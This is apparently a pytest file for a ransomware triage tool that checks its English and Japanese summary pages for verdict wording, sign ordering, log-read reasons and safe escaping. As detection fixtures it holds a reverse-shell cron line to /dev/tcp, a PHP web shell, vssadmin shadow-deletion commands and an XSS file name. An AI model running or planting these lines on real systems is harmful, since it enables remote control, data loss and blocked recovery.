"""The page: what a director reads on it, the way to the bytes, and what it never says."""

import gzip
import html
import io
import re
import zipfile

import pytest
from bundles import artifact, gap
from command_line import run
from eventlogs import Event, log
from hostile import cut
from listings import body, line, mft_record, ward
from triages import FRAGMENT, case_of, signs_of, triaged

from evidence.packs.own import own_rules
from evidence.report.texts import TEXTS
from evidence.report.triage.sheet import MOST_SIGNS
from evidence.rulebook.examples import load_examples
from evidence.rulebook.index import load_index
from evidence.tool import rules_folder
from evidence.triage.subjects import subjects

EXAMPLES, INDEX = load_examples(rules_folder()), load_index(rules_folder()).rules
STEPS = load_index(rules_folder()).next_steps
NOTE = EXAMPLES["lockbit_2_note"].positive[0].encode()
NEVER = re.compile(
    r"\b(safe|clean|no leak|not infected\.|confirmed|compliant)\b|court|tamper|安全です|感染なし"
    r"|漏えいなし|問題なし|保全完了|確認済|準拠|犯人は|原因は",
    re.IGNORECASE,
)


def pages(folder):
    return {
        name: (folder / f"summary-{name}").read_text(encoding="utf-8")
        for name in ("en.html", "ja.html", "en.txt", "ja.txt")
    }


def said(page):
    text = re.sub(r"<style>.*?</style>", "", page, flags=re.DOTALL)
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", text)).split())


VERDICTS = {
    "strong": ("Strong signs of an attack were seen (1).", "攻撃の強い兆候が 1 種類"),
    "medium": ("Signs of an attack of medium weight were seen (1).", "中程度の兆候が 1 種類"),
    "weak": ("Only weak signs were seen (1).", "弱い兆候だけが 1 種類見つかりました。"),
    "none": ("None of the {count} rules that were tried saw a sign. That does not prove that the "
             "machine is not infected.",
             "今回の{count}件の規則では一致なし。感染していないことの証明ではありません。"),
}  # fmt: skip
THINGS = {
    "strong": [artifact("/srv/a.txt", NOTE)],
    "medium": [artifact("/srv/a.bat", FRAGMENT)],
    "weak": [artifact("/srv/a.bat", FRAGMENT[:30])],
    "none": [artifact("/srv/a.txt", b"ordinary\n"), artifact("/srv/anydesk.exe", b"MZ")],
}


@pytest.mark.parametrize("weight", VERDICTS)
def test_the_first_sentence_says_what_the_strongest_sign_says_and_no_more(tmp_path, weight):
    folder, done = triaged(case_of(tmp_path, *THINGS[weight]))
    english, japanese = (each.format(count=done.tried) for each in VERDICTS[weight])
    made = pages(folder)

    assert english in said(made["en.html"])
    assert english in made["en.txt"]
    assert japanese in said(made["ja.html"])
    assert japanese in made["ja.txt"]
    assert done.tried + done.not_tried == len(INDEX)


def test_what_is_said_of_a_note_leads_to_the_words_of_its_family(tmp_path):
    note = b" / ".join(EXAMPLES[f"{one}_phrase"].positive[0].encode() for one in ("conti", "akira"))
    case = case_of(tmp_path, artifact("/srv/a.txt", note + b" / decrypt / tor browser / stolen"))
    signs = signs_of(pages(triaged(case)[0])["en.html"])
    shown = {row[1][0]: row[3] for row in signs}

    assert "akira" in shown["a small file reads like a ransom note of Akira"][2]
    assert "CONTI" in shown["a small file reads like a ransom note of Conti"][2]


ONCE = {
    "a shell": (
        b"* * * * * root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
        "sh -i >& /dev/tcp/",
    ),
    "a web shell": (b"<?php if (1) { system($_REQUEST['c']); } ?>\n", "system($_REQUEST"),
}


@pytest.mark.parametrize("what", ONCE)
def test_one_line_is_counted_once_and_leads_to_what_it_is_about(what, tmp_path):
    data, words = ONCE[what]
    page = pages(triaged(case_of(tmp_path, artifact("/srv/a", data)))[0])["en.txt"]

    assert "seen: 1\n" in page
    assert f"byte {data.index(words.encode())}\n" in page
    assert f"    {words}" in page


LOGS = {
    "packed in another form": (
        "auth.log.1.xz", b"\xfd7zXZ\0", "圧縮を最後まで展開できません(",
    ),
    "an archive in another form": (
        "auth.log.1.xz", b"\xfd7zXZ\0", "アーカイブ(xz)の中は規則で検索していません",
    ),
    "packed, and cut off": (
        "auth.log.1.gz", gzip.compress(b"x")[:-9], "圧縮を最後まで展開できません(",
    ),
    "cut off": ("wtmp", b"x" * 100, "末尾の 100 バイトは途中で切れています"),
    "erased": ("btmp", bytes(384 * 3), "3 件がゼロだけです(消去または書込み前)"),
    "in another form": ("auth.log", "Nov".encode("utf-16"), "1 行は形式が異なり、読めません"),
    "no event log": ("x.evtx", b"x", "先頭がイベントログの形式ではありません"),
    "an event log without its end": (
        "y.evtx", log(*(Event(id=1, data=("x" * 900,)) for _ in range(99)))[:69632],
        "ヘッダーでは 3 チャンク、実際は 1 チャンクです",
    ),
    "no journal": ("z.journal", b"x", "先頭がジャーナルの形式ではありません"),
}  # fmt: skip


@pytest.mark.parametrize("what", LOGS)
def test_why_a_log_was_not_read_is_said_in_japanese(what, tmp_path):
    name, data, words = LOGS[what]
    folder, _ = triaged(case_of(tmp_path, artifact(f"/var/log/{name}", data)))

    assert f"/var/log/{name}: {words}" in pages(folder)["ja.txt"]


@pytest.mark.parametrize(
    "name",
    ["MyProject.README.txt", "info.hta", "Johann.faust", "crown.eight", "suzuki.akira",
     "stone.crab", "old.medusa", "cactus.readme.txt", "INC-README.txt"],
)  # fmt: skip
def test_one_name_that_people_choose_too_is_no_alarm(tmp_path, name):
    folder, done = triaged(case_of(tmp_path, artifact(f"/srv/{name}", b"x")))

    assert len(done.seen) == 1
    assert VERDICTS["weak"][0] in pages(folder)["en.txt"]


def test_rules_without_anything_to_look_at_are_not_told_as_tried(tmp_path):
    (tmp_path / "files").mkdir()
    (tmp_path / "files" / "a.txt").write_text("ordinary\n")
    folder, done = triaged(tmp_path / "files", output=tmp_path / "results")
    idle = {rule for each in done.examiners for rule in each.not_tried}

    nowhere = {
        rule for rule, each in INDEX.items() if each.where in ("events", "memory", "vpn", "ssh")
    }
    assert idle == nowhere | {
        "no_shadow_copies", "head_differs", "many_heads_differ", "time_put_back",
    }  # fmt: skip
    assert (done.tried, done.not_tried) == (len(INDEX) - len(idle), len(idle))
    page, english = said(pages(folder)["ja.html"]), pages(folder)["en.txt"]
    not_seen, not_looked_at = page.split("見られなかったもの")
    assert f"試した規則 {done.tried} 件、うち一致なし {done.tried} 件" in not_seen
    assert "ログのイベント" not in not_seen
    assert "拡張子・時刻・先頭バイト 5/5" in not_seen
    assert f"試せなかった規則 {len(idle)} 件: ログのイベント: 10 · " in not_looked_at
    assert f"nothing of their kind here to look at, so not tried: {len(idle)}." in english


def events(name):
    return artifact(f"/Windows/System32/winevt/Logs/{name}.evtx", log(Event(channel=name, id=1)))


@pytest.mark.parametrize(
    ("things", "subject", "tried", "not_tried"),
    [
        ([artifact("/srv/a.docx", b"x" * 5000)], "files", 2, 7),
        ([artifact("hozen:/bodyfile.txt", body(*ward(0)))], "files", 5, 4),
        ([artifact("hozen:/bodyfile.txt", body(line("/System Volume Information/x")))], "files",
         6, 3),
        ([artifact("/$MFT", mft_record(0, "a", born=1, named=1))], "files", 6, 3),
        ([artifact("/$MFT", b"")], "files", 0, 9),
        ([gap("/a")], "names", 33, 0),
        ([gap("/a")], "notes", 0, 40),
        ([artifact("/a", b"")], "notes", 40, 0),
        ([artifact("/a", b"")], "cobalt_strike", 4, 1),
        ([artifact("memory:/1", b"x")], "cobalt_strike", 5, 0),
        ([events("System")], "events", 4, 6),
        ([events("System"), events("Application")], "events", 8, 2),
        ([artifact("/a.evtx", b"no log")], "events", 0, 10),
    ],
    ids=["heads alone", "a list", "and its folder of shadow copies", "an MFT", "an empty MFT",
         "a gap's name", "no bytes", "bytes", "no memory", "memory", "one channel", "two channels",
         "no log"],
)  # fmt: skip
def test_what_was_there_to_look_at_decides_which_rules_were_tried(
    tmp_path, things, subject, tried, not_tried
):
    _, done = triaged(case_of(tmp_path, *things, footprint=False))

    assert (done.subjects[subject].tried, done.subjects[subject].not_tried) == (tried, not_tried)


def test_places_and_reasons_are_in_the_language_of_the_page(tmp_path):
    cleared = Event(channel="Security", id=1102, provider="Microsoft-Windows-Eventlog", record=7)
    case = case_of(
        tmp_path, artifact("/a.txt", b"x"),
        artifact("/Windows/System32/winevt/Logs/Security.evtx", log(cleared)), rules=False,
    )  # fmt: skip
    path = case / "hosts" / "bundle" / "fs" / "a.txt"
    path.chmod(0o600)
    path.write_bytes(b"y")
    made = pages(triaged(case)[0])

    assert "項目 2, 位置 4608, レコード 7" in made["ja.txt"]
    assert " を消去。残る最古のレコード: " in made["ja.txt"]
    assert "/a.txt: 記録と食い違い: " in made["ja.txt"]
    for sentence in ("record 7", " cleared by ", "differs from its record"):
        assert sentence in made["en.txt"]
        assert sentence not in made["ja.txt"]


@pytest.mark.parametrize("weight", VERDICTS)
def test_no_page_says_what_nobody_can_know(tmp_path, weight):
    for name, page in pages(triaged(case_of(tmp_path, *THINGS[weight]))[0]).items():
        known = page.replace("That does not prove that the machine is not infected.", "")
        assert not NEVER.search(said(known)), name


def test_the_strongest_come_first_with_time_place_and_digest(tmp_path):
    wards = [each for n in range(8) for each in ward(n, ".qx7", note="TO-GET-BACK.txt", at=10**9)]
    folder, _ = triaged(
        case_of(tmp_path, artifact("hozen:/bodyfile.txt", body(*wards)), *THINGS["weak"])
    )
    first, *_, last = signs_of(pages(folder)["en.html"])

    assert first[0] == ["strong"]
    assert first[1] == [INDEX["note_beside_ending"].claim_en]
    assert first[2] == ["2001-09-09 01:46:49"]
    assert first[3][0].startswith("item 1, byte ")
    assert first[3][1] == "/srv/share/ward-0/TO-GET-BACK.txt"
    assert re.fullmatch("[0-9a-f]{64}", first[3][-1])
    assert last[0] == ["weak"]
    assert "Strong and medium signs bear times from 2001-09-09 01:46:40 to" in said(
        pages(folder)["en.html"]
    )


def test_a_sign_that_joins_others_leads_to_one_of_those_and_not_to_what_stands_before(tmp_path):
    things = artifact("/srv/a.bat", b"see mega.nz and splashtop\r\n" + FRAGMENT)
    first, *_ = signs_of(pages(triaged(case_of(tmp_path, things))[0])["en.html"])

    assert first[1] == [INDEX["inhibition_of_recovery"].claim_en]
    assert first[3][:3] == ["item 1, byte 27", "/srv/a.bat", "vssadmin delete shadows"]


def test_a_sign_in_an_archive_leads_to_its_member_and_not_to_the_bytes_outside(tmp_path):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.bat", b"\n" * 99 + FRAGMENT)
        archive.comment = b"vssadmin resize shadowstorage /for=c: /maxsize=401MB"
    thing = artifact("/srv/a.zip", packed.getvalue())
    rows = signs_of(pages(triaged(case_of(tmp_path, thing))[0])["en.html"])
    where = {row[1][0]: row[3][2] for row in rows}

    assert {row[3][0] for row in rows if row[3][2].startswith("member")} == {
        "item 1, within, unpacked"
    }
    assert where[INDEX["recovery_shadows_vssadmin"].claim_en].startswith("member a.bat, byte 99: ")
    assert where[INDEX["inhibition_of_recovery"].claim_en] == "member a.bat:"


def test_what_is_used_lawfully_too_stands_apart(tmp_path):
    page = pages(triaged(case_of(tmp_path, *THINGS["none"]))[0])["ja.html"]

    assert signs_of(page) == []
    assert INDEX["remote_control_program_name"].claim_ja in said(page).split("棚卸し")[1]


def test_what_could_not_be_looked_at_is_counted_with_its_reason(tmp_path):
    case = case_of(tmp_path, gap("/a"), gap("/b"), cut("/var/log/x", b"half"))
    page = said(pages(triaged(case)[0])["en.html"])

    assert "access denied: 2" in page
    assert "Not readable, altered, or not to the end: 1; the first: /var/log/x: obtained in" in page


def test_a_page_stays_one_page(tmp_path):
    """As laid out on A4, seven signs with long paths fill it, or fewer with more steps."""
    long = "/srv/" + "長い名前" * 20 + "/" + "x" * 200
    things = [
        artifact(f"{long}/{rule}", EXAMPLES[rule].positive[0].encode())
        for rule, entry in INDEX.items()
        if entry.where in ("any", "small")
    ]
    folder, _ = triaged(case_of(tmp_path, *things))
    made = pages(folder)

    assert len(signs_of(made["en.html"])) == MOST_SIGNS - 1  # three steps more need its room
    assert "; observations.jsonl has all." in made["en.txt"]
    for name in ("en.html", "ja.html"):  # 5,020 characters of English left 20 mm of A4 free
        assert len(said(made[name])) < 5100


def test_each_subject_has_its_row_before_one_has_two_and_no_step_is_left_out(tmp_path):
    """A web server's old fault, a service and commands must not fall behind one family's marks."""
    rules = (
        "lockbit_2_note", "lockbit_2_ending", "lockbit_2_note_name", "lockbit_3_note",
        "phobos_note", "akira_note", "qilin_note", "conti_note", "royal_note",
        "inhibition_of_recovery", "cobalt_service", "fortinet_2018_13379",
    )  # fmt: skip
    text = {rule: EXAMPLES[rule].positive[0] for rule in rules}
    wards = [each for n in range(8) for each in ward(n, ".qx7", note="BACK.txt", at=10**9)]
    things = [
        artifact("hozen:/bodyfile.txt", body(*wards)),
        *(
            artifact(f"/srv/{text[rule]}", b"x") if INDEX[rule].where == "name"
            else artifact(f"/srv/{rule}.txt", text[rule].encode())
            for rule in rules
        ),
    ]  # fmt: skip
    folder, _ = triaged(case_of(tmp_path, *things))
    page = pages(folder)["en.html"]
    claims = {row[1][0] for row in signs_of(page)}

    for rule in ("cobalt_service", "fortinet_2018_13379", "inhibition_of_recovery"):
        assert INDEX[rule].claim_en in claims
    weights = [row[0][0] for row in signs_of(page)]
    assert weights == sorted(weights, key=("strong", "medium", "weak").index)
    for step in ("note", "encrypted", "scripts", "logs", "appliance"):
        assert STEPS[step].en in said(page)


def test_strong_and_medium_signs_of_other_subjects_are_at_least_named(tmp_path):
    things = [
        artifact(f"/srv/{number}", EXAMPLES[rule].positive[0].encode())
        for number, (rule, each) in enumerate(INDEX.items())
        if each.where in ("any", "small")
    ]
    folder, _ = triaged(case_of(tmp_path, *things))
    shown = {row[1][0] for row in signs_of(pages(folder)["ja.html"])}
    (more,) = [each for each in pages(folder)["ja.txt"].splitlines() if each.startswith("ほか")]

    about = subjects(own_rules(rules_folder()))
    alarming = {about[r] for r, e in INDEX.items() if e.alarming and e.where in ("any", "small")}
    left = alarming - {about[rule] for rule, each in INDEX.items() if each.claim_ja in shown}
    assert left
    for subject in left:
        assert TEXTS[f"subject_{subject}"][1] in more


HOSTILE = "/srv/<script>alert(1)</script>\u202egpj.\x1b[2J\n\"'&.lockbit"


def test_names_from_the_host_do_nothing_to_a_page(tmp_path):
    case = case_of(
        tmp_path, artifact(HOSTILE, b"x"),
        artifact("hozen:/host.json", b'{"host_name":"<b>\\u202e"}'),
    )  # fmt: skip
    made = pages(triaged(case)[0])

    for name, page in made.items():
        assert "<script" not in page if name.endswith("html") else True
        assert "<b>" not in page if name.endswith("html") else True
        assert not {"\u202e", "\x1b"} & set(page)
    assert "\\u202egpj" in said(made["en.html"])
    assert len(signs_of(made["en.html"])) == 1


def test_a_page_asks_for_nothing_from_outside(tmp_path):
    for page in pages(triaged(case_of(tmp_path, *THINGS["strong"]))[0]).values():
        assert not re.search(r"https?:|<img|<link|<script|url\(", page)


# The report of the case.


def test_the_report_of_a_case_names_the_newest_triage_and_those_that_were_cut_off(tmp_path):
    def report(number):
        path = tmp_path / f"{number}.html"
        assert run("report", case, "--output", path).code == 0
        return said(path.read_text())

    case = case_of(tmp_path, *THINGS["medium"])
    assert "No triage was made yet: hozen triage." in report(1)

    folder, done = triaged(case)
    before = case / "triage" / "bundle" / "20010101T000000Z"
    before.mkdir()
    text = report(2)
    assert f"The newest triage ended {done.ended[:19]}Z: strong 0, medium 1, weak 2." in text
    assert f"triage/bundle/{folder.name}/summary-en.html" in text
    assert "A triage was cut off and says nothing: triage/bundle/20010101T000000Z" in text

    (folder / "triage.json").write_text("[" * 10_000)
    assert f"A triage can't be read: triage/bundle/{folder.name}" in report(3)
